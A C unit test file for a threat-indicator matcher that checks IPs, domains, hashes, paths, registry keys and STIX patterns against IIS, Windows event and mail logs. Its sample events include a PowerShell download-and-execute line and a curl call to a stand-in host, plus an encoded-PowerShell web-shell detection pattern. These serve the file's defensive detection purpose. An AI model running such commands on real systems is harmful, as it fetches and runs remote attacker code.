/* test_matches.c - which events and files an indicator matches, and when. */
#include "rules/events.h"
#include "rules/indicators/set.h"

/* --- which events name it --- */

static const struct {
	const char *list;
	enum log_kind log;
	const char *event; /* fields parted by | */
	int matches;
} named[] = {
	{"203.0.113.5", LOG_IIS, "client=203.0.113.5", 1},
	{"203.0.113.5", LOG_IIS, "client=203.0.113.6", 0},
	{"203.0.113.5", LOG_IIS, "client=::ffff:203.0.113.5", 1},
	{"203.0.113.5", LOG_IIS, "forwarded=10.0.0.1, 203.0.113.5", 1},
	{"203.0.113.5", LOG_IIS, "query=203.0.113.5", 0},
	{"203.0.113.5", LOG_SMTP_RECEIVE, "client=203.0.113.5", 1},
	{"203.0.113.5", LOG_EVTX, "IpAddress=203.0.113.5", 1},
	{"203.0.113.5", LOG_EVTX, "DestinationIp=203.0.113.5", 1},
	{"203.0.113.5", LOG_EVTX, "CommandLine=ping -n 1 203.0.113.5", 1},
	{"203.0.113.5", LOG_EVTX, "CommandLine=x http://203.0.113.5:80/a", 1},
	{"203.0.113.0/24", LOG_IIS, "client=203.0.113.255", 1},
	{"203.0.113.0/24", LOG_IIS, "client=203.0.114.0", 0},
	{"203.0.113.128/25", LOG_IIS, "client=203.0.113.127", 0},
	{"0.0.0.0/0", LOG_IIS, "client=198.51.100.1", 1},
	{"2001:db8::/33", LOG_IIS, "client=2001:db8:7fff::1", 1},
	{"2001:db8::/33", LOG_IIS, "client=2001:db8:8000::1", 0},
	{"evil.example", LOG_IIS, "host=evil.example", 1},
	{"evil.example", LOG_IIS, "host=EVIL.example:443", 1},
	{"evil.example", LOG_IIS, "host=www.evil.example", 1},
	{"evil.example", LOG_IIS, "host=notevil.example", 0},
	{"evil.example", LOG_IIS, "host=evil.example.org", 0},
	{"evil.example", LOG_IIS, "referer=https://a.evil.example/x", 1},
	{"evil.example", LOG_EVTX, "QueryName=a.b.evil.example", 1},
	{"evil.example", LOG_EVTX,
	 "ScriptBlockText=iwr 'http://evil.example/x' | iex", 1},
	{"evil.example", LOG_EVTX, "ScriptBlockText=$u=evil.example;", 1},
	{"evil.example", LOG_MESSAGE_TRACKING, "sender=a@evil.example", 1},
	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/x", 1},
	{"http://evil.example/x", LOG_IIS, "referer=https://EVIL.example/x/",
	 1},
	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/y", 0},
	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/x?a=1",
	 1},
	{"http://evil.example/x", LOG_EVTX,
	 "CommandLine=curl \"http://evil.example/x\"", 1},
	{"a@evil.example", LOG_MESSAGE_TRACKING,
	 "recipients=b@x.example;A@Evil.example", 1},
	{"a@evil.example", LOG_MESSAGE_TRACKING, "sender=ba@evil.example", 0},
	{"Mozilla/5.0 (Bad)", LOG_IIS, "agent=Mozilla/5.0+(Bad)", 1},
	{"Mozilla/5.0+(Bad)", LOG_HTTPPROXY, "agent=Mozilla/5.0 (Bad)", 1},
	{"Mozilla/5.0 (Bad)", LOG_IIS, "agent=Mozilla/5.0+(Bad)+x", 0},
	{"d41d8cd98f00b204e9800998ecf8427e", LOG_EVTX,
	 "Hashes=SHA1=00,MD5=D41D8CD98F00B204E9800998ECF8427E", 1},
	{"d41d8cd98f00b204e9800998ecf8427e", LOG_EVTX,
	 "Hashes=MD5=D41D8CD98F00B204E9800998ECF8427F", 0},
	{"evil.exe", LOG_EVTX, "Image=C:\\Windows\\EVIL.exe", 1},
	{"evil.exe", LOG_EVTX, "Image=C:\\Windows\\notevil.exe", 0},
	{"evil.exe", LOG_EVTX, "CommandLine=cmd /c evil.exe -x", 1},
	{"\\owa\\auth\\x.aspx", LOG_EVTX,
	 "TargetFilename=C:\\inetpub\\owa\\auth\\X.aspx", 1},
	{"\\owa\\auth\\x.aspx", LOG_EVTX,
	 "TargetFilename=C:\\inetpub\\xowa\\auth\\x.aspx", 0},
	{"C:\\a\\b.exe", LOG_EVTX, "Image=C:\\a\\b.exe", 1},
	{"C:\\a\\b.exe", LOG_EVTX, "Image=D:\\a\\b.exe", 0},
	{"C:\\a\\b c.exe", LOG_EVTX, "CommandLine=\"C:\\a\\b c.exe\" -x", 1},
	{"\\a\\bcd.exe", LOG_EVTX,
	 "Image=\\Device\\HarddiskVolume2\\a\\bcd.exe", 1},
	{"C:\\ProgramData\\COM1\\", LOG_EVTX,
	 "TargetFilename=C:\\ProgramData\\COM1\\deep\\x.aspx", 1},
	{"C:\\ProgramData\\COM1\\", LOG_EVTX,
	 "TargetFilename=C:\\ProgramData\\COM10\\x.aspx", 0},
	{"\\VSPerfMon\\", LOG_EVTX,
	 "TargetFilename=C:\\ProgramData\\VSPerfMon\\x.dll", 1},
	{"\\ProgramData\\VSPerfMon\\", LOG_EVTX,
	 "TargetFilename=D:\\x\\ProgramData\\vsperfmon\\x.dll", 1},
	{"/owa/auth/x.js", LOG_IIS, "stem=/OWA/auth/x.js", 1},
	{"/owa/auth/x.js", LOG_IIS, "stem=/owa/auth/x.jsx", 0},
	{"HKLM\\Software\\Run", LOG_EVTX,
	 "TargetObject=HKLM\\Software\\Run\\Name", 1},
	{"HKLM\\Software\\Run", LOG_EVTX,
	 "TargetObject=HKLM\\Software\\Runs\\Name", 0},
	{"value,type\nmsupdate,service-name\n", LOG_EVTX,
	 "ServiceName=MSUpdate", 1},
	{"value,type\nWinnet,scheduled-task-name\n", LOG_EVTX,
	 "TaskName=\\Winnet", 1},
	{"value,type\n/ecp/y.js,uri-post\n", LOG_IIS,
	 "method=POST|stem=/ecp/y.js", 1},
	{"value,type\n/ecp/y.js,uri-post\n", LOG_IIS,
	 "method=GET|stem=/ecp/y.js", 0},
	{"value,type\n^/ecp/[a-z]\\.js$,uri-post-regex\n", LOG_IIS,
	 "method=POST|stem=/ecp/Z.js", 1},
	{"value,type\n^/ecp/[a-z]\\.js$,uri-post-regex\n", LOG_IIS,
	 "method=POST|stem=/ecp/zz.js", 0},
	{"value,type\n\\\\[a-z]{8}\\.aspx$,file-path-regex\n", LOG_EVTX,
	 "TargetFilename=C:\\x\\abcdefgh.aspx", 1},
	{"[network-traffic:src_ref.value = '203.0.113.5' AND "
	 "network-traffic:dst_port = 443]",
	 LOG_IIS, "client=203.0.113.5|port=443", 1},
	{"[network-traffic:src_ref.value = '203.0.113.5' AND "
	 "network-traffic:dst_port = 443]",
	 LOG_IIS, "client=203.0.113.5|port=80", 0},
	{"[network-traffic:extensions.'http-request-ext'.request_header."
	 "'User-Agent' LIKE 'Bad %']",
	 LOG_IIS, "agent=Bad+1.0", 1},
	{"[file:name = 'a.exe' AND file:hashes.MD5 = "
	 "'d41d8cd98f00b204e9800998ecf8427e']",
	 LOG_EVTX,
	 "Image=C:\\A.exe|Hashes=MD5=D41D8CD98F00B204E9800998ECF8427E", 1},
	{"[file:name = 'a.exe' AND file:hashes.MD5 = "
	 "'d41d8cd98f00b204e9800998ecf8427e']",
	 LOG_EVTX,
	 "Image=C:\\A.exe|ImageLoaded=C:\\b.dll|"
	 "Hashes=MD5=D41D8CD98F00B204E9800998ECF8427E",
	 0},
	{"[process:command_line MATCHES '-e[nc]+ ' AND process:parent_ref.name "
	 "= 'w3wp.exe']",
	 LOG_EVTX, "CommandLine=powershell -enc AA|ParentImage=C:\\w3wp.exe",
	 1},
	{"[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run' "
	 "AND windows-registry-key:values[*].data LIKE '%x.exe']",
	 LOG_EVTX, "TargetObject=HKLM\\Software\\Run\\N|Details=C:\\x.exe", 1},
	{"[user-account:user_id = 'Bob' OR ipv4-addr:value ISSUBSET "
	 "'203.0.113.0/24']",
	 LOG_IIS, "user=BOB", 1},
	{"[email-message:subject MATCHES '^Pay' AND "
	 "email-message:from_ref.value LIKE '%@evil.example']",
	 LOG_MESSAGE_TRACKING, "sender=a@EVIL.example|subject=Pay now", 1},
};

static void events_name_what_they_hold(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(named); i++) {
		const struct indicator_match *m;
		struct made_event e;
		struct set s;
		int n;

		set_open(&s, &plain);
		set_add_text(&s, "x", named[i].list);
		set_ready(&s);
		made_event_init(&e, s.names, named[i].log);
		made_event_read(&e, named[i].event);
		e.event.inner = &e;
		for (int again = 0; again < 2; again++) {
			n = indicators_match(s.matcher, &e.event, &m, NULL);
			if (n != named[i].matches)
				fail_msg("%s over %s: %d", named[i].list,
					 named[i].event, n);
		}
		set_close(&s);
	}
}

/* --- files --- */

#define EMPTY_MD5 "d41d8cd98f00b204e9800998ecf8427e"
#define EMPTY_SHA256                                                           \
	"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

static const uint8_t empty_md5[] = {0xd4, 0x1d, 0x8c, 0xd9, 0x8f, 0x00,
				    0xb2, 0x04, 0xe9, 0x80, 0x09, 0x98,
				    0xec, 0xf8, 0x42, 0x7e};
static const uint8_t empty_sha256[] = {
	0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4,
	0xc8, 0x99, 0x6f, 0xb9, 0x24, 0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b,
	0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52, 0xb8, 0x55};

/* Over an empty file of 0 bytes in C:\x\empty.aspx. */
static const struct {
	const char *list;
	int matches;
	bool md5, sha256; /* wanted */
} filed[] = {
	{EMPTY_SHA256, 1, false, true},
	{EMPTY_MD5, 1, true, false},
	{"D41D8CD98F00B204E9800998ECF8427F", 0, true, false},
	{"empty.aspx", 1, false, false},
	{"C:\\x\\empty.aspx", 1, false, false},
	{"value,type\n\\x\\,folder\n", 1, false, false},
	{"value,type\nC:\\x,folder\n", 1, false, false},
	{"value,type\nC:\\x\\empty,folder\n", 0, false, false},
	{"[file:name = 'empty.aspx' AND file:hashes.'SHA-256' = '" EMPTY_SHA256
	 "']",
	 1, false, true},
	{"[file:name = 'other.aspx' AND file:hashes.'SHA-256' = '" EMPTY_SHA256
	 "']",
	 0, false, true},
	{"[file:name = 'empty.aspx' AND file:hashes.MD5 = '" EMPTY_MD5 "']", 1,
	 true, false},
	{"[file:size = 0 AND file:parent_directory_ref.path = 'C:\\\\x']", 1,
	 false, false},
	{"[file:size > 0]", 0, false, false},
};

static void files_are_named_by_path_size_and_digest(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(filed); i++) {
		struct indicator_file file = {
			.path = SPAN_LIT("C:\\x\\empty.aspx"),
			.time_ns = TIME_NONE};
		const struct indicator_match *m;
		struct set s;
		int n;

		set_open(&s, &plain);
		set_add_text(&s, "x", filed[i].list);
		set_ready(&s);
		if (indicators_want_digest(s.set, 16) != filed[i].md5 ||
		    indicators_want_digest(s.set, 32) != filed[i].sha256)
			fail_msg("%s: digests", filed[i].list);
		if (filed[i].sha256)
			file.digest[0] = span_of(empty_sha256, 32);
		if (filed[i].md5)
			file.digest[1] = span_of(empty_md5, 16);
		n = indicators_match_file(s.matcher, &file, &m, NULL);
		if (n != filed[i].matches)
			fail_msg("%s: %d", filed[i].list, n);
		set_close(&s);
	}
}

/* As an investigation tells files: an event of its own. */
static void files_are_events_of_an_investigation(void **state)
{
	static const char event[] =
		"path=C:\\x\\empty.aspx|size=0|sha256=" EMPTY_SHA256;
	static const enum log_kind logs[] = {LOG_WEB_FILE, LOG_OTHER};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(filed) * 2; i++) {
		const struct indicator_match *m;
		struct made_event e;
		struct set s;
		int n;

		if (filed[i / 2].md5)
			continue;
		set_open(&s, &plain);
		set_add_text(&s, "x", filed[i / 2].list);
		set_ready(&s);
		made_event_init(&e, s.names, logs[i % 2]);
		made_event_read(&e, event);
		e.event.inner = &e;
		n = indicators_match(s.matcher, &e.event, &m, NULL);
		if (n != filed[i / 2].matches)
			fail_msg("%s: %d", filed[i / 2].list, n);
		set_close(&s);
	}
}

/* --- time --- */

static void what_changes_hands_counts_in_its_time(void **state)
{
	static const char table[] =
		"indicator,type,valid_from,valid_until,first_seen\n"
		"203.0.113.5,ip,2021-03-01,2021-03-31,\n"
		"203.0.113.6,ip,,,2021-01 to 2021-03\n"
		"evil.exe,filename,2021-03-01,2021-03-31,\n";
	static const struct {
		const char *event, *when;
		enum log_kind log;
		int matches, any;
	} cases[] = {
		{"client=203.0.113.5", "2021-02-28T23:59:59Z", LOG_IIS, 0, 1},
		{"client=203.0.113.5", "2021-03-01T00:00:00Z", LOG_IIS, 1, 1},
		{"client=203.0.113.5", "2021-03-31T23:59:59Z", LOG_IIS, 1, 1},
		{"client=203.0.113.5", "2021-04-01T00:00:00Z", LOG_IIS, 0, 1},
		{"client=203.0.113.6", "2020-12-31T23:59:59Z", LOG_IIS, 0, 1},
		{"client=203.0.113.6", "2021-01-01T00:00:00Z", LOG_IIS, 1, 1},
		{"client=203.0.113.6", "2021-03-31T23:59:59Z", LOG_IIS, 1, 1},
		{"client=203.0.113.6", "2021-04-01T00:00:00Z", LOG_IIS, 0, 1},
		/* a file is what it is */
		{"Image=C:\\evil.exe", "2024-01-01T00:00:00Z", LOG_EVTX, 1, 1},
	};

	(void)state;
	for (unsigned any = 0; any < 2; any++) {
		struct indicator_options o = {.any_time = any};
		uint64_t outside = 0;
		struct set s;

		set_open(&s, &o);
		set_add_text(&s, "x.csv", table);
		set_ready(&s);
		for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
			const struct indicator_match *m;
			struct made_event e;
			int n, expected;

			made_event_init(&e, s.names, cases[i].log);
			made_event_read(&e, cases[i].event);
			e.event.inner = &e;
			CHECK(time_from_text(span_str(cases[i].when),
					     &e.event.time_ns));
			n = indicators_match(s.matcher, &e.event, &m, NULL);
			expected = any ? cases[i].any : cases[i].matches;
			if (n != expected)
				fail_msg("%s at %s: %d", cases[i].event,
					 cases[i].when, n);
			outside += !cases[i].matches;
		}
		CHECK_EQ(indicator_matcher_outside(s.matcher),
			 any ? 0 : outside);
		set_close(&s);
	}
}

/* --- several events --- */

static void patterns_over_several_events_are_bound(void **state)
{
	static const char *const clients[] = {"203.0.113.5", "203.0.113.9",
					      "203.0.113.5", "203.0.113.5"};
	const struct indicator_together *t;
	size_t count = 0;
	struct set s;

	(void)state;
	set_open(&s, &plain);
	set_add_text(&s, "x",
		     "[ipv4-addr:value = '203.0.113.5'] REPEATS 3 TIMES WITHIN "
		     "60 SECONDS\n"
		     "[ipv4-addr:value = '203.0.113.9'] FOLLOWEDBY "
		     "[ipv4-addr:value = '203.0.113.5']\n"
		     "[ipv4-addr:value = '203.0.113.5'] REPEATS 4 TIMES\n");
	set_ready(&s);
	for (size_t i = 0; i < ARRAY_LEN(clients); i++) {
		const struct indicator_match *m;
		struct made_event e;

		made_event_init(&e, s.names, LOG_IIS);
		CHECK(made_event_put(&e, SPAN_LIT("client"),
				     span_str(clients[i])));
		e.event.inner = &e;
		e.event.time_ns = (int64_t)i * 10 * NS_PER_SECOND;
		indicators_mark(s.matcher, i);
		CHECK_EQ(indicators_match(s.matcher, &e.event, &m, NULL), 0);
		CHECK(indicators_marked(s.matcher));
	}
	CHECK_EQ(indicators_finish(s.matcher, &t, &count, NULL), ST_OK);
	CHECK_EQ(count, 2);
	CHECK_EQ(t[0].mark_count, 3);
	CHECK_EQ(t[0].mark[0], 0);
	CHECK_EQ(t[0].mark[2], 3);
	CHECK_EQ(t[1].mark_count, 2);
	CHECK_EQ(t[1].mark[0], 1);
	CHECK_EQ(t[1].mark[1], 2);
	CHECK_EQ(indicators_lost(s.matcher), 0);
	set_close(&s);
}

/* Two threads that hand out what they see give what one gives that remembers. */
static void events_that_are_handed_out_and_taken_back_are_bound(void **state)
{
	static const char *const clients[] = {"203.0.113.5", "203.0.113.9",
					      "203.0.113.5", "203.0.113.5"};
	const struct indicator_together *t;
	struct indicator_matcher *other = NULL;
	size_t count = 0;
	struct set s;

	(void)state;
	set_open(&s, &plain);
	set_add_text(&s, "x",
		     "198.51.100.1\n"
		     "[ipv4-addr:value = '203.0.113.5'] REPEATS 3 TIMES WITHIN "
		     "60 SECONDS\n"
		     "[ipv4-addr:value = '203.0.113.9'] FOLLOWEDBY "
		     "[ipv4-addr:value = '203.0.113.5']\n");
	set_ready(&s);
	CHECK_EQ(indicators_part_count(s.set), 3);
	CHECK_EQ(indicator_matcher_open(&other, s.set, NULL), ST_OK);
	indicators_hand_out(s.matcher);
	for (size_t i = 0; i < ARRAY_LEN(clients); i++) {
		const struct indicator_match *m;
		const uint32_t *part;
		struct made_event e;
		size_t parts;

		made_event_init(&e, s.names, LOG_IIS);
		CHECK(made_event_put(&e, SPAN_LIT("client"),
				     span_str(clients[i])));
		e.event.inner = &e;
		e.event.time_ns = (int64_t)i * 10 * NS_PER_SECOND;
		CHECK_EQ(indicators_match(s.matcher, &e.event, &m, NULL), 0);
		CHECK(!indicators_marked(s.matcher));
		parts = indicators_parts(s.matcher, &part);
		CHECK_EQ(parts, i == 1 ? 1 : 2);
		for (size_t k = 0; k < parts; k++)
			CHECK_EQ(indicators_take(other, part[k],
						 e.event.time_ns, 100 + i,
						 NULL),
				 ST_OK);
	}
	CHECK_EQ(indicators_finish(s.matcher, &t, &count, NULL), ST_OK);
	CHECK_EQ(count, 0);
	CHECK_EQ(indicators_finish(other, &t, &count, NULL), ST_OK);
	CHECK_EQ(count, 2);
	CHECK_EQ(t[0].mark_count, 3);
	CHECK_EQ(t[0].mark[0], 100);
	CHECK_EQ(t[0].mark[2], 103);
	CHECK_EQ(t[1].mark_count, 2);
	CHECK_EQ(t[1].mark[0], 101);
	CHECK_EQ(t[1].mark[1], 102);
	/* of another list */
	CHECK_EQ(indicators_take(other, 3, 0, 1, NULL), ST_FORMAT);
	indicator_matcher_close(other);
	set_close(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(events_name_what_they_hold),
		cmocka_unit_test(files_are_named_by_path_size_and_digest),
		cmocka_unit_test(files_are_events_of_an_investigation),
		cmocka_unit_test(what_changes_hands_counts_in_its_time),
		cmocka_unit_test(patterns_over_several_events_are_bound),
		cmocka_unit_test(
			events_that_are_handed_out_and_taken_back_are_bound),
	};

	return RUN_TESTS(tests);
}
